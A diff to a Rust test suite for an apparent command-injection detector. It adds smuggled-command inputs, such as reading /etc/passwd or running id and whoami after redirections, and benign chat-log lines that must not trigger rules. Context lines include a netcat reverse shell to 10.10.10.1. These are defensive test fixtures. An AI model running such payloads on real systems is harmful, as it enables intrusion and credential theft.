@@ -313,6 +313,10 @@ fn evasions_undone_in_a_command_word() {
         ("bin/visudo", "rce-001"),
         ("/usr/local/bin/chef-client", "rce-001"),
         ("x;base64 -d /tmp/x", "rce-001"),
+        ("x; >/dev/null cat /etc/passwd", "rce-001"),
+        ("x; < /dev/null id", "rce-001"),
+        ("x|>out 2>&1 whoami", "rce-001"),
+        ("x;<(id)", "rce-001"),
         ("x|base64", "rce-001"),
         ("\"; . shell nc 10.10.10.1 6666 -e sh", "rce-004"),
         (";iwmi -class Win32_process -name Create", "rce-005"),
@@ -349,6 +353,10 @@ fn evasions_undone_in_a_command_word() {
         "data:text/plain;charset=utf-8;base64,SGVsbG8sIFdvcmxkIQ==",
         "url(data:font/woff2;base64,d09GMgABAAAAA)",
         "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">",
+        // The word after a redirection names a file: a chat log's nicknames.
+        "<a_nick> nm\n<dash> heh :)\n<dash> behold the power of #python.",
+        "<sh> hello there",
+        "<ps> see you",
     ] {
         assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
     }
@@ -477,6 +485,9 @@ fn repeated_pieces_stay_linear() {
         "& n^et ",
         "if !a",
         "$[",
+        ";>a",
+        "2>&1 ",
+        ";2",
         "if %",
         "for %a in (",
     ] {
